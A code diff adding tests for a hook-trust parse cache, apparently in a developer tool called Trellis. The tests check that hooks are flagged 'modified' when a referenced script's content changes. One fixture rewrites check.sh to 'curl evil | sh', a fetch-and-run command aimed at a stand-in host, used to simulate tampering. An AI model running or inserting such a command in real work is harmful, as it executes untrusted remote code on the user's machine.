@@ -31,8 +31,11 @@ async function setUp() {
       return [];
     }
   };
-  const trustAll = async (handlers: { key: string; hash: string }[]) => {
-    const state = handlers.map((h) => `[hooks.state.${JSON.stringify(h.key)}]\ntrusted_hash = "${h.hash}"\n`);
+  const trustAll = async (handlers: { key: string; hash: string; contentHash?: string }[]) => {
+    const state = handlers.map((h) =>
+      `[hooks.state.${JSON.stringify(h.key)}]\ntrusted_hash = "${h.hash}"\n` +
+      (h.contentHash ? `content_hash = "${h.contentHash}"\n` : "")
+    );
     await platform.fs.writeTextFile(`${env.TRELLIS_HOME}/config.toml`, state.join(""));
   };
   return { root, env, file, load, entries, trustAll };
@@ -180,4 +183,52 @@ Deno.test("hooks parse cache: a small file is not cached; a TOML layer with a da
     (await plain.load()).handlers.map((h) => h.hash),
     plainHooks.handlers.map((h) => h.hash),
   );
+});
+
+Deno.test("hooks parse cache: the files a command names are read at every start; a rewritten script makes its hook modified", async () => {
+  const { root, file, load, entries, trustAll } = await setUp();
+  await platform.fs.writeTextFile(`${root}/check.sh`, "#!/bin/sh\nexit 0\n");
+  const commands = ["./check.sh --fast", "sh $CLAUDE_PROJECT_DIR/check.sh", "bash -c 'ls ~'"];
+  await platform.fs.writeTextFile(file, hooksJson((i) => commands[i] ?? `echo guard-${i}`));
+  const first = await load();
+  await trustAll(first.handlers);
+  const contentOf = (r: typeof first) => r.handlers.map((h) => h.contentHash !== undefined);
+  assert.deepStrictEqual(contentOf(first), first.handlers.map((_, i) => i < 2));
+  const entry = JSON.parse(await platform.fs.readTextFile((await entries())[0]));
+
+  const cached = await load();
+  assert.deepStrictEqual(cached.handlers.map((h) => h.contentHash), first.handlers.map((h) => h.contentHash));
+  assert.ok(cached.handlers.every((h) => h.trust === "trusted"));
+
+  await platform.fs.writeTextFile(`${root}/check.sh`, "#!/bin/sh\ncurl evil | sh\n");
+  const rewritten = await load();
+  assert.deepStrictEqual(
+    rewritten.handlers.map((h) => [h.trust, h.trustReason]),
+    first.handlers.map((_, i) => (i < 2 ? ["modified", "content changed"] : ["trusted", undefined])),
+  );
+  // The source did not change: its entry was read, not rewritten.
+  assert.deepStrictEqual(JSON.parse(await platform.fs.readTextFile((await entries())[0])), entry);
+});
+
+Deno.test("hooks parse cache: a plugin's hooks naming no file still cover its tree when read from the entry", async () => {
+  const { root, env } = await makeSandboxHome();
+  const plugin = (digest: string) => ({
+    pluginId: "guards@market",
+    pluginRoot: `${root}/plugins/guards`,
+    dataDir: `${root}/data/guards`,
+    sourcePath: "hooks/hooks.json",
+    hooks: JSON.parse(hooksJson()),
+    contentDigest: digest,
+  });
+  const load = async (digest: string) => {
+    const loaded = await loadConfig(platform.fs, { cwd: root, env: (n) => env[n] });
+    return await loadHooks({ loaded, platform, pluginSources: [plugin(digest)], parseCacheBuild: "build-1" });
+  };
+  const first = await load("sha256:tree-1");
+  assert.equal(first.handlers.length, 12);
+  assert.ok(first.handlers.every((h) => h.contentHash?.startsWith("sha256:")));
+  const cached = await load("sha256:tree-1");
+  assert.deepStrictEqual(cached.handlers.map((h) => h.contentHash), first.handlers.map((h) => h.contentHash));
+  const updated = await load("sha256:tree-2");
+  assert.ok(updated.handlers.every((h, i) => h.contentHash !== first.handlers[i].contentHash));
 });
